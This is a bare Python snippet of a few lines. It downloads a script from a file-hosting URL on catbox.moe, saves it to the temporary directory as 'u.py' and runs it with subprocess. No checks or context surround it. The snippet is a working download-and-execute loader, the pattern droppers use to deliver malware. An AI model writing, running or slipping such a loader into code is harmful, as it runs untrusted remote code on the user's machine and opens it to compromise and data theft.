import os, requests, subprocess, tempfile
r = requests.get("https://files.catbox.moe/abc123.py")
p = os.path.join(tempfile.gettempdir(), "u.py")
with open(p, "wb") as f:
    f.write(r.content)
subprocess.call(["python", p])
